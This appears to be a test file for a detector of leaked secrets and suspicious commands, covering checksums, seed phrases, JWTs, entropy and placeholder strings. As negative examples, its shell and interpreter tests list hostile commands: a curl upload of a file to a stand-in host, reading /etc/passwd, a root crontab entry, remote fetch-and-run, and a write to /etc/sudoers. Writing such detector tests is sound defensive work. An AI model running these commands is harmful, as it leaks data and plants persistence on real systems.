import { describe, expect, test } from '@jest/globals';
import { entropyToMnemonic, validateMnemonic } from '@scure/bip39';
import { wordlist } from '@scure/bip39/wordlists/english';
import fc from 'fast-check';
import { isAssignedPassword, isAssignedToken } from '../../src/detect/checks/assigned-secret.js';
import { isBase58Check } from '../../src/detect/checks/base58.js';
import { isBasicCredential } from '../../src/detect/checks/base64.js';
import { base62, crc32, hasBase62Checksum, hasHexChecksum } from '../../src/detect/checks/crc32.js';
import { isEncodedLabel } from '../../src/detect/checks/encoded-host.js';
import { hidesText } from '../../src/detect/checks/hidden-text.js';
import { isIban } from '../../src/detect/checks/iban.js';
import { isForEverybody, isJwt } from '../../src/detect/checks/jwt.js';
import { passesLuhn } from '../../src/detect/checks/luhn.js';
import { isNkeySeed } from '../../src/detect/checks/nkey.js';
import {
  isOrdinaryForNode,
  isOrdinaryForPerl,
  isOrdinaryForPhp,
  isOrdinaryForPowerShell,
  isOrdinaryForPython,
  isOrdinaryForShell,
} from '../../src/detect/checks/ordinary-command.js';
import { isPlaceholder, isShownPassword } from '../../src/detect/checks/placeholder.js';
import { entropyOf } from '../../src/detect/checks/randomness.js';
import { beginsWithSeedPhrase } from '../../src/detect/checks/seed-phrase.js';
import { tableCells } from '../../src/detect/checks/table.js';
import { standsInText } from '../../src/detect/checks/text-around.js';
import { isWordy } from '../../src/detect/checks/words.js';
import { isWrittenByTool } from '../../src/detect/checks/written-by-tool.js';

const letters = fc.string({
  unit: fc.constantFrom(...Array.from('ABCDEFabcdef0123456789')),
  minLength: 30,
  maxLength: 30,
});
const digits = fc.string({ unit: fc.constantFrom(...Array.from('0123456789')), minLength: 12, maxLength: 18 });

/** A text with one character replaced by the next of its kind. */
function damaged(text: string, at: number): string {
  const position = at % text.length;
  const next = text[position] === '7' ? '8' : '7';
  return text.slice(0, position) + next + text.slice(position + 1);
}

describe('checksums in tokens', () => {
  test('CRC-32 is the one of zlib', () => {
    expect(crc32('123456789')).toBe(0xcb_f4_39_26);
  });

  test('a token with its own checksum is right, and wrong after any change', () => {
    fc.assert(
      fc.property(letters, fc.nat(29), (body, at) => {
        expect(hasBase62Checksum(`ghp_${body}${base62(crc32(body))}`)).toBe(true);
        const other = damaged(body, at);
        expect(hasBase62Checksum(`ghp_${other}${base62(crc32(body))}`)).toBe(other === body);
      }),
    );
  });

  test('hexadecimal checksums keep their leading zeros', () => {
    fc.assert(
      fc.property(letters, (body) => {
        expect(hasHexChecksum(`cfat_${body}${crc32(body).toString(16).padStart(8, '0')}`)).toBe(true);
      }),
    );
  });
});

describe('seeds of NATS', () => {
  // Of the documentation of nkeys and of NATS (docs.nats.io, "NKeys").
  const SEED = 'SUACSSL3UAHUDXKFSNVUZRF5UHPMWZ6BFDTJ7M6USDXIEDNPPQYYYCU3VY';

  test('have a checksum that fits', () => {
    expect(isNkeySeed(SEED)).toBe(true);
  });

  test('are none with any other letter in any place but the last, half of which is padding', () => {
    fc.assert(
      fc.property(
        fc.nat(SEED.length - 2),
        fc.constantFrom(...Array.from('ABCDEFGHIJKLMNOPQRSTUVWXYZ234567')),
        (at, letter) => {
          const changed = SEED.slice(0, at) + letter + SEED.slice(at + 1);
          expect(isNkeySeed(changed)).toBe(changed === SEED);
        },
      ),
    );
  });

  test.each([SEED.toLowerCase(), SEED.slice(0, -2), `${SEED}AA`, ''])('%j is none', (text) => {
    expect(isNkeySeed(text)).toBe(false);
  });
});

describe('card and account numbers', () => {
  test('Luhn finds any single wrong digit', () => {
    fc.assert(
      fc.property(digits, fc.nat(20), (body, at) => {
        const whole = Array.from('0123456789', (last) => body + last).filter(passesLuhn);
        expect(whole).toHaveLength(1);
        expect(passesLuhn(damaged(whole[0]!, at))).toBe(false);
      }),
    );
  });

  test('groups may be apart', () => {
    expect(passesLuhn('4539 1827-4650 1939')).toBe(true);
  });

  test('an account number needs its country, its length and its check digits', () => {
    expect(isIban('DE44 5001 0517 5407 3249 31')).toBe(true);
    expect(isIban('DE45500105175407324931')).toBe(false);
    expect(isIban('DE4450010517540732493')).toBe(false);
    expect(isIban('XX44500105175407324931')).toBe(false);
  });
});

describe('wallets', () => {
  const phrase = 'panel mechanic month sight swift foster iron void box diagram retreat require';

  test('a seed phrase needs its words, their number and their checksum', () => {
    expect(beginsWithSeedPhrase(phrase)).toBe(true);
    expect(beginsWithSeedPhrase(phrase.replace('require', 'retreat'))).toBe(false);
    expect(beginsWithSeedPhrase(phrase.replace('require', 'requires'))).toBe(false);
    expect(beginsWithSeedPhrase(phrase.replace(' require', ''))).toBe(false);
  });

  test('passes as the library of its word list says, for any words of it and for any entropy', () => {
    const anyWords = fc
      .constantFrom(12, 15, 18, 21, 24)
      .chain((length) => fc.array(fc.constantFrom(...wordlist), { minLength: length, maxLength: length }));
    fc.assert(
      fc.property(anyWords, (words) => {
        const lengths = [12, 15, 18, 21, 24].filter((length) => length <= words.length);
        const expected = lengths.some((length) => validateMnemonic(words.slice(0, length).join(' '), wordlist));
        expect(beginsWithSeedPhrase(words.join(' '))).toBe(expected);
      }),
      { numRuns: 200 },
    );
    fc.assert(
      fc.property(
        fc.constantFrom(16, 20, 24, 28, 32),
        fc.uint8Array({ minLength: 32, maxLength: 32 }),
        (size, bytes) => {
          expect(beginsWithSeedPhrase(entropyToMnemonic(bytes.slice(0, size), wordlist))).toBe(true);
        },
      ),
    );
  });

  test('base 58 needs its checksum and its alphabet', () => {
    expect(isBase58Check('5KJHZScUopEuc39ZNaqkR7ZgWK4dxtc8HzUGZFNPUkmC2LXgbVk')).toBe(true);
    expect(isBase58Check('5KJHZScUopEuc39ZNaqkR7ZgWK4dxtc8HzUGZFNPUkmC2LXgbVj')).toBe(false);
    expect(isBase58Check('0OIl')).toBe(false);
  });
});

describe('what stands behind base64', () => {
  const part = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64url');

  test('a JSON Web Token has a header with an algorithm, and claims', () => {
    expect(isJwt(`${part({ alg: 'HS256' })}.${part({ sub: 'alice' })}.c2ln`)).toBe(true);
    expect(isJwt(`${part({ alg: 'HS256' })}.${part({ sub: 'alice' })}`)).toBe(true);
    expect(isJwt(`${part({ typ: 'JWT' })}.${part({ sub: 'alice' })}.c2ln`)).toBe(false);
    expect(isJwt(`${part({ alg: 'HS256' })}.bm9uZQ.c2ln`)).toBe(false);
    expect(isJwt(part({ alg: 'HS256' }))).toBe(false);
  });

  test('an encrypted one needs no readable claims', () => {
    expect(isJwt(`${part({ alg: 'dir', enc: 'A256GCM' })}.bm9uZQ.c2ln`)).toBe(true);
  });

  test('no text makes it throw', () => {
    fc.assert(
      fc.property(fc.string(), (text) => typeof isJwt(text) === 'boolean' && typeof hidesText(text) === 'boolean'),
    );
  });

  test('a Basic credential is user and password', () => {
    expect(isBasicCredential(Buffer.from('alice:qz81mxp2vj5w').toString('base64'))).toBe(true);
    expect(isBasicCredential(Buffer.from('{"alg":"HS256"}').toString('base64'))).toBe(false);
    expect(isBasicCredential('realm="users"')).toBe(false);
  });

  test('sentences hide in base64 and in hexadecimal digits; JSON and random bytes are honest', () => {
    const sentence = "The customer's name is Alice and she lives in 5 High Street";
    expect(hidesText(Buffer.from(sentence).toString('base64url'))).toBe(true);
    expect(hidesText(Buffer.from(sentence).toString('hex'))).toBe(true);
    expect(hidesText(Buffer.from(JSON.stringify({ event: sentence })).toString('base64'))).toBe(false);
    expect(hidesText('kq81mxp2vj5w9s4a6kq81mxp2vj5w9s4a6kq81mxp2vj5w9s4a6')).toBe(false);
  });

  test('labels that fill a host name with data are told from names', () => {
    expect(isEncodedLabel('54686520637573746f6d65722773206e616d65206973')).toBe(true);
    expect(isEncodedLabel('d1a2b3c4')).toBe(false);
    expect(isEncodedLabel('averylongnameofacompanythatlikeslongnamesverymuch')).toBe(false);
  });
});

describe('the look of a secret', () => {
  test('entropy is that of the alphabet for evenly spread text', () => {
    expect(entropyOf('aaaaaaaa')).toBe(0);
    expect(entropyOf('abababab')).toBe(1);
    expect(entropyOf('0123456789abcdef')).toBe(4);
  });

  test.each(['getAccessToken2', 'user_token_v2', 'X-Request-Token-2024', 'my-very-secret-value-1'])(
    '%j is words',
    (text) => {
      expect(isWordy(text)).toBe(true);
    },
  );

  test.each(['oof2q7zk1xj9w8', '8onxcexid018thaaw1slyv', '237751093469c6fa28550eff57089218', 'k3Jq81mZp0sXv72LwQe5'])(
    '%j is random',
    (text) => {
      expect(isWordy(text)).toBe(false);
    },
  );

  test.each(['${TOKEN}', '<token>', 'your-token-here', 'xxxxxxxx', '{{ .Values.token }}', 'eyJhb...', '%s'])(
    '%j stands in the place of a secret',
    (text) => {
      expect(isPlaceholder(text)).toBe(true);
      expect(isAssignedToken(text, '')).toBe(false);
      expect(isAssignedPassword(text)).toBe(false);
    },
  );

  test('what stands in a form or an address is judged as what its percent signs mean', () => {
    for (const shown of ['%24%7BDB_PASSWORD%7D', '%7B%7B%20.Values.token%20%7D%7D', '%2Frun%2Fsecrets%2Ftoken']) {
      expect(isAssignedToken(shown, '')).toBe(false);
      expect(isAssignedPassword(shown)).toBe(false);
    }
    expect(isAssignedPassword('v8Kq%210zPm2xL')).toBe(true);
    expect(isAssignedToken('8f3kQ2j9xLm4%2FvT7wZp1s%3D', '')).toBe(true);
  });

  test.each(['password', 'mypassword', 'secret', 'dbuser', 'pass123'])('%j is what examples show', (text) => {
    expect(isShownPassword(text)).toBe(true);
  });

  test.each([
    'next_page_token',
    'nextPageToken',
    'nextpagetoken',
    'csrftoken',
    'pad_token',
    'start_key',
    'public_-',
    'flowToken',
  ])('what is named %j is a place in a list, a guard of a form, or for everybody', (name) =>
    expect(isAssignedToken('7f3kq0z81mxp2vj5w9s4', name)).toBe(false),
  );

  test.each([
    'api_token',
    'BACKEND_TOKEN',
    'WEBFLOW_TOKEN',
    'LAUNCHPAD_TOKEN',
    'CURSOR_-',
    'STATUSPAGE_-',
    'CSRF_SECRET',
  ])('what is named %j is none of these', (name) => expect(isAssignedToken('7f3kq0z81mxp2vj5w9s4', name)).toBe(true));

  test.each(['kDGcrGgVLBew', 'jJKwVCgXRtUR', 'APolySREiBSseQ'])(
    '%j has no digit and is a password all the same',
    (text) => {
      expect(isAssignedPassword(text)).toBe(true);
    },
  );

  test.each(['passwordInput', 'encPwdBufPtr', 'getXMLHTTPField', 'IsPasswordOK', 'MIN_LENGTH', 'PASSWORDHASH'])(
    '%j is a name and no password',
    (text) => {
      expect(isAssignedPassword(text)).toBe(false);
    },
  );

  test('code that reads a secret is none', () => {
    expect(isAssignedToken('this.state.oauth2Token', '')).toBe(false);
    expect(isAssignedToken('https://example2.test/a', '')).toBe(false);
    expect(isAssignedPassword('config.password2')).toBe(false);
  });
});

describe('a match that stands in text', () => {
  const latin = (text: string): string => Buffer.from(text).toString('latin1');
  const mark = latin('x\u202ey');

  test('has text of any script around it, cut where it may be', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme', maxLength: 40 }), fc.string({ maxLength: 40 }), (before, after) => {
        const printable = (text: string): string => latin(text.replace(/\p{Cc}/gu, ' '));
        const match = { before: printable(before).slice(-20), text: mark, after: printable(after).slice(0, 20) };
        expect(standsInText(match)).toBe(true);
      }),
    );
  });

  test('may stand first, last, alone, behind the border of texts, and between colours of a terminal', () => {
    for (const [before, after] of [
      ['', ''],
      ['\x01\x02\x03\x04\0\n', ''],
      ['\x1b[31mred\x1b[0m ', '\r\n\tnext'],
    ] as const) {
      expect(standsInText({ before, text: mark, after })).toBe(true);
    }
  });

  test('has no archive around it: of 20,000 neighbourhoods of random bytes hardly one passes', () => {
    const bytes = fc.uint8Array({ minLength: 64, maxLength: 64 }).map((found) => Buffer.from(found).toString('latin1'));
    const results = fc.sample(fc.tuple(bytes, bytes), { numRuns: 20_000, seed: 1 });
    const passed = results.filter(([before, after]) => standsInText({ before, text: mark, after }));
    expect(passed.length).toBeLessThanOrEqual(1);
  });
});

describe('what is handed to a shell or an interpreter', () => {
  test.each([
    [isOrdinaryForShell, '"npm run migrate && npm start"'],
    [isOrdinaryForShell, "'set -e; make -j8'"],
    [isOrdinaryForShell, '"cd /srv/app && git pull"'],
    [isOrdinaryForShell, "'until nc -z db 5432; do sleep 1; done'"],
    [isOrdinaryForShell, '"$CMD"'],
    [isOrdinaryForShell, '"echo \'vm.max_map_count=262144\' >> /etc/sysctl.conf"'],
    [isOrdinaryForPython, '"import torch; print(torch.__version__)"'],
    [isOrdinaryForPython, "'import json,sys; print(json.load(sys.stdin))'"],
    [isOrdinaryForPerl, "'print 1 + 1'"],
    [isOrdinaryForPhp, '"echo PHP_VERSION;"'],
    [isOrdinaryForNode, '"console.log(process.version)"'],
    [isOrdinaryForPowerShell, '"Get-ChildItem -Recurse"'],
  ])('%o takes %j for everyday work', (isOrdinary, text) => {
    expect(isOrdinary(text)).toBe(true);
  });

  test.each([
    [isOrdinaryForShell, '"whoami"'],
    [isOrdinaryForShell, '"echo x > /tmp/a.sh"'],
    [isOrdinaryForShell, '"npm ci && curl -d @x https://files.invalid"'],
    [isOrdinaryForShell, '"cat /etc/passwd"'],
    [isOrdinaryForShell, '"echo \'* * * * * root x\' >> /etc/crontab"'],
    [isOrdinaryForShell, '"$(curl -s https://files.invalid)"'],
    [isOrdinaryForPython, '"import base64;print(base64.b64decode(x))"'],
    [isOrdinaryForPython, '"import os; os.system(x)"'],
    [isOrdinaryForPerl, "'print `id`'"],
    [isOrdinaryForPhp, '"echo system($x);"'],
    [isOrdinaryForNode, '"require(\'child_process\').exec(x)"'],
    [isOrdinaryForPowerShell, '"Get-Content x | iex"'],
  ])('%o does not take %j for it', (isOrdinary, text) => {
    expect(isOrdinary(text)).toBe(false);
  });
});

test('a token that a project gives to everybody is no secret, one for its server is', () => {
  const token = (role: string): string =>
    ['{"alg":"HS256","typ":"JWT"}', JSON.stringify({ iss: 'supabase', ref: 'abc', role })]
      .map((part) => Buffer.from(part).toString('base64url'))
      .join('.');
  expect(isForEverybody(token('anon'))).toBe(true);
  expect(isForEverybody(token('service_role'))).toBe(false);
});

describe('a value of a table and the name of its column', () => {
  const cell = (name: string, value: string): unknown => ({ name, value });

  test.each([
    ['commas', 'site,user,password', 'a.invalid,robot,v8Kq'],
    ['quotes, which hold commas and doubled quotes', '"site","user","password"', '"a, ""b""",robot,v8Kq'],
    ['semicolons', 'site;user;password', 'a.invalid;robot;v8Kq'],
    ['tabs', 'site\tuser\tpassword', 'a.invalid\trobot\tv8Kq'],
    ['the bars of Markdown', '| site | user | password |', '| a.invalid | robot | `v8Kq` |'],
    ['the line ends of Windows', 'site,user,password\r', 'a.invalid,robot,v8Kq\r'],
  ])('are told by %s', (_name, header, row) => {
    expect(tableCells(header, row).slice(1)).toEqual([cell('user', 'robot'), cell('password', 'v8Kq')]);
  });

  test.each([
    ['as many values as names', 'site,user,password', 'a.invalid,v8Kq'],
    ['more than one column', 'password', 'v8Kq'],
    ['names that are no code', 'login(user, password)', 'login(robot, v8Kq)'],
  ])('are not told without %s', (_name, header, row) => {
    expect(tableCells(header, row)).toEqual([]);
  });
});

describe('what is counted character by character', () => {
  const mixed = fc.string({ unit: fc.constantFrom(...Array.from('aehnrtTHEQZx019._- v\u00e9')), maxLength: 40 });

  test('entropy is what Shannon defined', () => {
    fc.assert(
      fc.property(fc.oneof(mixed, letters), (text) => {
        const shares = [...new Set(text)].map((each) => (text.split(each).length - 1) / text.length);
        const entropy = shares.reduce((sum, share) => sum - share * Math.log2(share), 0);
        expect(entropyOf(text)).toBeCloseTo(entropy, 9);
      }),
    );
    expect(entropyOf('')).toBe(0);
  });

  test.each(['', '20241121', 'kx8Qv2mZ', 'xqzjkvwqxzjk', 'a1b2c3d4e5', '0f9e8d7c6b5a4938', '\u00e9\u00e8\u00ea'])(
    '%j does not read as words',
    (text) => {
      expect(isWordy(text)).toBe(false);
    },
  );

  test('a number behind a name changes nothing', () => {
    fc.assert(
      fc.property(mixed, fc.integer({ min: 1, max: 9999 }), (text, number) => {
        fc.pre(!/\d$/.test(text));
        expect(isWordy(`${text}_v${number}`)).toBe(isWordy(text));
      }),
    );
  });
});

describe('what a tool for files is told to write', () => {
  const around = (before: string, after: string): boolean =>
    isWrittenByTool({ before, text: '/etc/sudoers', after, further: after, secret: '', fromStart: false });
  test.each([
    ['{"file_path":"', '","content":"x"}'],
    ['{"path": "', '.d/99-x", "old_string": "a"}'],
    ['{\\"file_path\\":\\"', '\\",\\"new_str\\":\\"x\\"}'],
  ])('%s/etc/sudoers%s is written', (before, after) => {
    expect(around(before, after)).toBe(true);
  });
  test.each([
    ['{"file_path":"', '","limit":20}'],
    ['The file "', '", "content" says'],
    ['{"text":"see ', '","content":"x"}'],
  ])('%s/etc/sudoers%s is not', (before, after) => {
    expect(around(before, after)).toBe(false);
  });
});
